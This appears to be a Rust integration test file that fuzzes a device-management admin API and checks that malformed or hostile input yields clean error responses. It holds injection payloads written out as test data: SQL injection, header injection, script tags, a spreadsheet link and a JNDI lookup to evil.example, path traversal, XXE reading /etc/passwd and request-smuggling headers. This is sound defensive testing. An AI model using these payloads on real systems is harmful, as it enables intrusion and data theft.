//! Whatever is sent to the admin API gets an answer that says what was wrong, and changes nothing by surprise.

use anyhow::{Context as _, Result};
use percent_encoding::{NON_ALPHANUMERIC, percent_encode};
use qm_core::access::Role;
use qm_testkit::{
    Stage,
    admin::{Admin, problem},
    stages,
    wire::{Answer, request},
};
use serde_json::{Value, json};

/// Texts that mean something to a database, a log, a page, a spreadsheet or a terminal.
fn nasty() -> Vec<String> {
    let mut texts: Vec<String> = [
        "' OR '1'='1",
        "\"; DROP TABLE devices; --",
        "%",
        "_",
        "\\",
        "\u{0}",
        "a\u{0}b",
        "a\r\nSet-Cookie: b=c",
        "\u{1b}[2J",
        "\u{202e}gnp.exe",
        "\u{feff}\u{200b}",
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example\")",
        "../../etc/passwd",
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "\u{fffd}\u{10ffff}",
    ]
    .map(str::to_owned)
    .into();
    texts.push("x".repeat(100_000));
    texts.push("\u{1d518}".repeat(5_000));
    texts
}

struct Client {
    admin: Admin,
    token: String,
}

impl Client {
    async fn new(stage: &Stage) -> Result<Self> {
        Ok(Self {
            admin: stage.admin()?,
            token: stage.token(Role::Admin).await?,
        })
    }

    async fn get(&self, path: &str) -> Result<Answer> {
        let path = format!("/api/v1{path}");
        self.admin.call("GET", &path, Some(&self.token), None).await
    }

    async fn post(&self, path: &str, body: &str) -> Result<Answer> {
        let path = format!("/api/v1{path}");
        self.admin
            .call("POST", &path, Some(&self.token), Some(body))
            .await
    }

    async fn raw(&self, path: &str, media_type: &str, body: &[u8]) -> Result<Answer> {
        let bearer = format!("Bearer {}", self.token);
        let headers = [("authorization", bearer.as_str()), ("content-type", media_type)];
        let path = format!("/api/v1{path}");
        self.admin.send(&request("POST", &path, &headers, body)).await
    }
}

/// Served, or refused with a problem document: never a failure of the server.
fn civil(answer: &Answer, case: &str) -> Result<()> {
    anyhow::ensure!(answer.status < 500, "{case}: {} {}", answer.status, answer.text());
    if answer.status >= 400 {
        problem(answer).with_context(|| case.to_owned())?;
    }
    Ok(())
}

fn items(answer: &Answer) -> Result<Vec<Value>> {
    let list: Value = serde_json::from_slice(&answer.body)?;
    Ok(list["items"].as_array().context("items")?.clone())
}

fn encoded(text: &str) -> String {
    percent_encode(text.as_bytes(), NON_ALPHANUMERIC).to_string()
}

#[tokio::test]
async fn no_text_is_more_than_a_text() -> Result<()> {
    for stage in stages(1, 0).await? {
        stage.enroll().await?;
        let client = Client::new(&stage).await?;
        let device = stage.api.devices().await?[0].id;
        for text in nasty() {
            let case = format!(
                "{:?} on {}",
                text.chars().take(40).collect::<String>(),
                stage.engine
            );
            for parameter in [
                "devices?q",
                "devices?upn",
                "devices?state",
                "apps?q",
                "apps?license",
                "licenses/seats?upn",
            ] {
                if text.len() > 1000 {
                    continue;
                }
                let answer = client.get(&format!("/{parameter}={}", encoded(&text))).await?;
                civil(&answer, &format!("{parameter}={case}"))?;
                if answer.status == 200 {
                    let found = items(&answer)?;
                    let means_it = |item: &Value| item.to_string().contains(&text);
                    assert!(found.iter().all(means_it), "{parameter}={case}: {found:?}");
                }
            }
            let commands = format!("/devices/{device}/commands");
            let bodies = [
                ("/groups", json!({ "name": text })),
                ("/enrollment-tokens", json!({ "upn": text })),
                (
                    "/enrollment-tokens",
                    json!({ "upn": format!("{text}@example.com") }),
                ),
                (
                    "/deployments",
                    json!({ "app_id": device, "intent": text, "context": text, "targets": { "upns": [text] } }),
                ),
                (&commands, json!({ "verb": text, "uri": text })),
                (
                    &commands,
                    json!({ "verb": "replace", "uri": format!("./Vendor/{text}"), "format": text, "type": text, "data": text }),
                ),
            ];
            for (path, body) in bodies {
                civil(
                    &client.post(path, &body.to_string()).await?,
                    &format!("{path}: {case}"),
                )?;
            }
        }
        // What was taken is shown as it was given.
        for group in items(&client.get("/groups?limit=500").await?)? {
            let name = group["name"].as_str().context("name")?;
            assert!(nasty().iter().any(|text| text.trim() == name), "{name:?}");
            assert!(!name.contains(char::is_control), "{name:?}");
        }
        assert_eq!(stage.api.devices().await?.len(), 1);
        // The device lives on with what was queued for it.
        stage.call_in().await?;
        stage.strike().await?;
    }
    Ok(())
}

#[tokio::test]
async fn no_body_is_too_strange() -> Result<()> {
    let stage = stages(0, 0).await?.remove(0);
    let client = Client::new(&stage).await?;
    let deep = format!("{{\"name\":{}{}}}", "[".repeat(50_000), "]".repeat(50_000));
    let utf16: Vec<u8> = "{\"name\":\"a\"}"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let bodies: Vec<(&str, &[u8])> = vec![
        ("empty", b""),
        ("no JSON", b"{"),
        ("an array", b"[]"),
        ("null", b"null"),
        ("a wrong type", br#"{"name":1}"#),
        ("a member too many", br#"{"name":"a","role":"admin"}"#),
        ("a member twice", br#"{"name":"a","name":"b"}"#),
        ("something behind it", br#"{"name":"a"} {"name":"b"}"#),
        ("a lone surrogate", br#"{"name":"\ud800"}"#),
        ("broken UTF-8", b"{\"name\":\"\xff\xfe\"}"),
        ("UTF-16", &utf16),
        ("deep", deep.as_bytes()),
        (
            "XML",
            b"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        ),
    ];
    for (case, body) in bodies {
        let answer = client.raw("/groups", "application/json", body).await?;
        assert!(matches!(answer.status, 400 | 422), "{case}: {}", answer.status);
        problem(&answer).context(case)?;
    }
    for number in [
        "-1",
        "0",
        "1.5",
        "1e999",
        "99999999999999999999999",
        "9223372036854775807",
        "\"3\"",
        "true",
        "null",
    ] {
        for member in ["max_uses", "expires_in_seconds"] {
            let body = format!("{{\"upn\":\"a@example.com\",\"{member}\":{number}}}");
            civil(&client.post("/enrollment-tokens", &body).await?, &body)?;
        }
    }
    for media_type in [
        "",
        "text/plain",
        "application/xml",
        "application/json; charset=utf-16",
        "\u{e9}",
    ] {
        let answer = client.raw("/groups", media_type, br#"{"name":" "}"#).await?;
        assert!(
            matches!(answer.status, 415 | 422),
            "{media_type}: {}",
            answer.status
        );
        problem(&answer)?;
    }
    assert!(items(&client.get("/groups").await?)?.is_empty());
    // A body that is announced to be huge is refused before it is sent.
    let announced = format!(
        "POST /api/v1/groups HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {}\r\ncontent-type: application/json\r\n\
         content-length: 99999999999\r\n\r\n",
        client.token
    );
    let answer = client.admin.send(announced.as_bytes()).await?;
    assert_eq!(answer.status, 413);
    problem(&answer)?;
    stage.strike().await
}

#[tokio::test]
async fn pages_are_never_larger_than_they_may_be_and_forged_cursors_lead_nowhere() -> Result<()> {
    for stage in stages(1, 0).await? {
        stage.enroll().await?;
        let client = Client::new(&stage).await?;
        let device = stage.api.devices().await?[0].id;
        let app = stage.app("offline").await?;
        let deployment = stage.api.deploy(&app, "required", &stage.upns).await?.id;
        let lists = [
            "/apps".to_owned(),
            "/audit".to_owned(),
            "/deployments".to_owned(),
            "/devices".to_owned(),
            "/groups".to_owned(),
            "/licenses/seats".to_owned(),
            format!("/devices/{device}/apps"),
            format!("/devices/{device}/commands"),
            format!("/devices/{device}/exchanges"),
            format!("/deployments/{deployment}/targets"),
        ];
        for list in &lists {
            for limit in [
                "0",
                "-1",
                "501",
                "4294967296",
                "99999999999999999999",
                "1.5",
                "x",
                "",
                "1%00",
                "0x10",
                "%2B1e3",
            ] {
                let answer = client.get(&format!("{list}?limit={limit}")).await?;
                assert!(
                    matches!(answer.status, 400 | 422),
                    "{list}?limit={limit}: {}",
                    answer.status
                );
                problem(&answer)?;
            }
            for cursor in [
                "x",
                "",
                "0",
                "..%2F",
                "%27%20OR%201%3D1--",
                "%00",
                "null",
                &"f".repeat(3000),
            ] {
                let answer = client.get(&format!("{list}?cursor={cursor}")).await?;
                assert!(
                    matches!(answer.status, 400 | 422),
                    "{list}?cursor={cursor}: {}",
                    answer.status
                );
                problem(&answer)?;
            }
            for forged in [
                "00000000-0000-0000-0000-000000000000",
                "ffffffff-ffff-ffff-ffff-ffffffffffff",
            ] {
                let answer = client.get(&format!("{list}?cursor={forged}&limit=500")).await?;
                assert_eq!(answer.status, 200, "{list}?cursor={forged}");
                assert!(items(&answer)?.len() <= 500);
            }
            let twice = client.get(&format!("{list}?limit=1&limit=500")).await?;
            assert_eq!(twice.status, 400, "{list}");
        }
        stage.strike().await?;
    }
    Ok(())
}

#[tokio::test]
async fn requests_that_are_no_requests_get_problem_documents_or_are_hung_up_on() -> Result<()> {
    let stage = stages(0, 0).await?.remove(0);
    let client = Client::new(&stage).await?;
    for (method, path, status) in [
        ("GET", "/", 404),
        ("GET", "/api", 404),
        ("GET", "/api/v2/devices", 404),
        ("GET", "/api/v1/../v1/devices", 404),
        ("GET", "/api/v1/devices/", 404),
        ("GET", "/API/V1/DEVICES", 404),
        ("GET", "//api/v1/devices", 404),
        ("GET", "/api/v1/devices%2F", 404),
        ("TRACE", "/api/v1/devices", 405),
        ("PATCH", "/api/v1/devices", 405),
        ("BREW", "/api/v1/devices", 405),
        ("DELETE", "/api/v1/audit", 405),
        ("POST", "/api/v1/openapi.json", 405),
        ("POST", "/metrics", 405),
    ] {
        let answer = client.admin.call(method, path, Some(&client.token), None).await?;
        assert_eq!(answer.status, status, "{method} {path}");
        problem(&answer)?;
    }
    let many = "x: y\r\n".repeat(200);
    let long = format!("x-long: {}\r\n", "y".repeat(200_000));
    for (case, bytes) in [
        (
            "many fields",
            format!("GET /healthz HTTP/1.1\r\nhost: a\r\n{many}\r\n"),
        ),
        (
            "a long field",
            format!("GET /healthz HTTP/1.1\r\nhost: a\r\n{long}\r\n"),
        ),
        (
            "a long address",
            format!("GET /{} HTTP/1.1\r\nhost: a\r\n\r\n", "a".repeat(100_000)),
        ),
        (
            "two lengths",
            "POST /healthz HTTP/1.1\r\nhost: a\r\ncontent-length: 1\r\ncontent-length: 2\r\n\r\nab"
                .to_owned(),
        ),
        (
            "a folded field",
            "GET /healthz HTTP/1.1\r\nhost: a\r\nx: a\r\n b\r\n\r\n".to_owned(),
        ),
        (
            "a space before the colon",
            "GET /healthz HTTP/1.1\r\nhost : a\r\n\r\n".to_owned(),
        ),
        ("no HTTP", "\u{16}\u{3}\u{1}\u{2}\r\n\r\n".to_owned()),
    ] {
        match client.admin.send(bytes.as_bytes()).await {
            Ok(answer) => assert!((400..500).contains(&answer.status), "{case}: {}", answer.status),
            Err(_) => assert_eq!(client.get("/devices").await?.status, 200, "{case}"),
        }
    }
    stage.strike().await
}
